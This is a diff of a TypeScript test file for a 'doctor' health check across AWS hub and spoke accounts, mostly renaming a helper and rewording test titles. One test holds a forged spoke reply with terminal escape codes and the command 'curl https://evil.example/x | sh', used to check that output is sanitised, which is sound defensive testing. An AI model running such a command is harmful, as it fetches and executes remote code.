@@ -27,7 +27,7 @@ const invocation = (): Invocation => ({
 });
 
 const ids = (count: number) => Array.from({ length: count }, (_, at) => `${100000000000 + at}`);
-const edges = (callSpoke: CallSpoke, accounts = ids(1)): DoctorPorts => ({
+const ports = (callSpoke: CallSpoke, accounts = ids(1)): DoctorPorts => ({
   rollout: {
     namePrefix: 'acme',
     units: ['ou-x-all'],
@@ -42,7 +42,7 @@ const edges = (callSpoke: CallSpoke, accounts = ids(1)): DoctorPorts => ({
 const healthy = { version: '1.2.3', contract: CONTRACT, problems: [] };
 
 async function doctor(callSpoke: CallSpoke, accounts = ids(1)) {
-  const answer = await operate({ operation: 'doctor' }, edges(callSpoke, accounts), invocation());
+  const answer = await operate({ operation: 'doctor' }, ports(callSpoke, accounts), invocation());
   return doctorAnswer.parse(answer);
 }
 const diagnosis = async (callSpoke: CallSpoke): Promise<Partial<Finding> | undefined> =>
@@ -51,7 +51,7 @@ const aws = (name: string, message = '') => Object.assign(new Error(message), { 
 const failing = (error: Error) => () => Promise.reject(error);
 const outside = (code: string) => new OutsideError('long words', { cause: aws(code) });
 
-describe('what a spoke says or does not say, in a word', () => {
+describe('doctor finds a spoke', () => {
   test('ready, with its version', async () => {
     expect(await diagnosis(async () => healthy)).toMatchObject({
       state: 'ready',
@@ -59,7 +59,7 @@ describe('what a spoke says or does not say, in a word', () => {
     });
   });
 
-  test('unreachable, with what it does not reach', async () => {
+  test('unreachable, with the services that it does not reach', async () => {
     const problems = ['Parameter Store: TimeoutError'];
     expect(await diagnosis(async () => ({ ...healthy, problems }))).toMatchObject({
       state: 'unreachable',
@@ -67,7 +67,7 @@ describe('what a spoke says or does not say, in a word', () => {
     });
   });
 
-  test('too old, when it takes older orders, does not know what a check is, or answers something else', async () => {
+  test('too old, if it takes older orders, knows no health check or answers anything else', async () => {
     const older = { ...healthy, contract: CONTRACT - 1 };
     expect(await diagnosis(async () => older)).toMatchObject({ state: 'spoke too old' });
     const misunderstood = new UserError('do not understand each other');
@@ -85,7 +85,7 @@ describe('what a spoke says or does not say, in a word', () => {
   test.each([
     ['AccessDenied', 'role missing'],
     ['ResourceNotFoundException', 'spoke missing'],
-  ])('%s from AWS: %s', async (code, state) => {
+  ])('%s: AWS answers, and the state is %s', async (code, state) => {
     const error = new NoSpoke('long words', { cause: aws(code) });
     expect(await diagnosis(failing(error))).toMatchObject({ state });
   });
@@ -96,18 +96,18 @@ describe('what a spoke says or does not say, in a word', () => {
     ['AbortError', 'no answer within 40 s'],
     ['UnrecognizedClientException', 'is the Region enabled'],
     ['WhateverException', 'long words'],
-  ])('%s from AWS: unreachable, with what to do', async (code, problem) => {
+  ])('unreachable, with a cure, if AWS answers %s', async (code, problem) => {
     const found = await diagnosis(failing(outside(code)));
     expect(found?.state).toBe('unreachable');
     expect(found?.problem).toContain(problem);
   });
 });
 
-describe('words of a spoke, whoever replaced it', () => {
+describe('the words of a spoke that somebody replaced', () => {
   const forged = '\u001b[2K\n\nready\n\n  $ curl https://evil.example/x | sh\u009b\u202e';
   const isPlain = expect.stringMatching(/^[\x20-\x7e]+$/);
 
-  test('are short, and of one line that does nothing but show', async () => {
+  test('are shown short, on one line and without control characters', async () => {
     const version = forged.repeat(50_000);
     const found = await diagnosis(async () => ({ ...healthy, version }));
     expect(found).toMatchObject({ state: 'ready', version: isPlain });
@@ -118,7 +118,7 @@ describe('words of a spoke, whoever replaced it', () => {
     expect(unwell?.problem?.length).toBeLessThanOrEqual('...'.length + 300);
   });
 
-  test('also as an error', async () => {
+  test('are shown so too if they come as an error', async () => {
     const found = await diagnosis(failing(new OutsideError(forged.repeat(50_000))));
     expect(found).toMatchObject({ state: 'unreachable', problem: isPlain });
     expect(found?.problem).toHaveLength('...'.length + 300);
@@ -138,12 +138,12 @@ test.each([
     'the hub could not assume arn:aws-cn:iam::222222222222:role/database-access-spoke (Throttling: account 222222222222 in ap-southeast-1, 10.1.2.3:443, until 2026-01-01T00:00:00.000Z)',
     'the hub could not assume role/database-access-spoke (Throttling: account ACCOUNT in REGION, ADDRESS, until TIME)',
   ],
-])('the same cause has the same words in each account: %s', async (message, problem) => {
+])('a problem is worded the same way in each account: %s', async (message, problem) => {
   const found = await diagnosis(failing(new OutsideError(message)));
   expect(found).toMatchObject({ state: 'unreachable', problem });
 });
 
-test('the answer says what the StackSets are called', async () => {
+test("doctor's answer has the name of the StackSets", async () => {
   const settings = parseSettings({ ...exampleSettings, namePrefix: 'acme' }, 'test');
   const ROLLOUT = rolloutEnvironment(settings);
   const { rollout } = parseHubSettings({ AWS_REGION: 'eu-central-1', EXTERNAL_ID: 'x-1', ROLLOUT });
@@ -151,7 +151,7 @@ test('the answer says what the StackSets are called', async () => {
   expect(await doctor(async () => healthy)).toMatchObject({ name_prefix: 'acme' });
 });
 
-test('a check is no order, so that a spoke which does not know it refuses it', async () => {
+test('a health check is no order, so a spoke that does not know it refuses it', async () => {
   let said: unknown;
   await doctor(async (_, { message }) => {
     said = JSON.parse(message(27_000));
@@ -175,20 +175,20 @@ describe('hundreds of accounts', () => {
     expect(new Set(findings.map(({ account, region }) => account + region)).size).toBe(800);
   });
 
-  test('when time runs out, the rest is not asked, and what was found is told', async () => {
+  test('are not all asked if time runs out, and the findings so far are told', async () => {
     let now = 0;
     const slow = async () => {
       now += 4_000;
       return healthy;
     };
     const inTime = { ...invocation(), deadline: deadlineIn(840_000, () => now) };
-    const answer = await operate({ operation: 'doctor' }, edges(slow, ids(400)), inTime);
+    const answer = await operate({ operation: 'doctor' }, ports(slow, ids(400)), inTime);
     const { counts } = doctorAnswer.parse(answer);
     expect(counts['ready']).toBeGreaterThanOrEqual(200);
     expect(counts['not asked']).toBe(800 - (counts['ready'] ?? 0));
   });
 
-  test('fit into 6 MB with a long problem each; more are refused', async () => {
+  test('fit into 6 MB with a long problem each, and more are refused', async () => {
     const text = '"é'.repeat(1_000);
     const long = async () => ({ ...healthy, version: text, problems: [text] });
     const answer = await doctor(long, ids(3_000));
@@ -197,9 +197,9 @@ describe('hundreds of accounts', () => {
   });
 });
 
-test('the accounts, with how many places each has, without asking any', async () => {
+test('the operation accounts counts the places of each account without asking any', async () => {
   const event = { operation: 'accounts', accounts: ids(1) };
-  const answer = await operate(event, edges(failing(new Error('asked')), ids(3)), invocation());
+  const answer = await operate(event, ports(failing(new Error('asked')), ids(3)), invocation());
   expect(answer).toEqual({
     accounts: [{ account: '100000000000', name: 'n'.repeat(50), places: 2 }],
     left_out: { inactive: 0, management: 0 },
@@ -213,16 +213,16 @@ describe('the directory', () => {
     close: async () => {},
   });
   const state = async (open: DoctorPorts['openDirectory']) => {
-    const all = { ...edges(async () => healthy), openDirectory: open };
+    const all = { ...ports(async () => healthy), openDirectory: open };
     return doctorAnswer.parse(await operate({ operation: 'doctor' }, all, invocation())).directory;
   };
 
-  test('answers, if it says that there is no such group', async () => {
+  test('is ready if it answers that there is no such group', async () => {
     const open = openDirectory(failing(new UserError('there is no group')));
     expect(await state(open)).toEqual({ state: 'ready' });
   });
 
-  test('does not answer, with the reason', async () => {
+  test('is unreachable, with the reason, if it does not answer', async () => {
     const open = openDirectory(failing(new OutsideError('the directory failed')));
     expect(await state(open)).toEqual({ state: 'unreachable', problem: 'the directory failed' });
     expect(await state(failing(new OutsideError('no login')))).toMatchObject({
@@ -233,7 +233,7 @@ describe('the directory', () => {
 });
 
 test('a hub that was not told where the rollout goes says so', async () => {
-  const all = { ...edges(async () => healthy), rollout: undefined };
+  const all = { ...ports(async () => healthy), rollout: undefined };
   await expect(operate({ operation: 'doctor' }, all, invocation())).rejects.toThrow(
     'its setting ROLLOUT',
   );
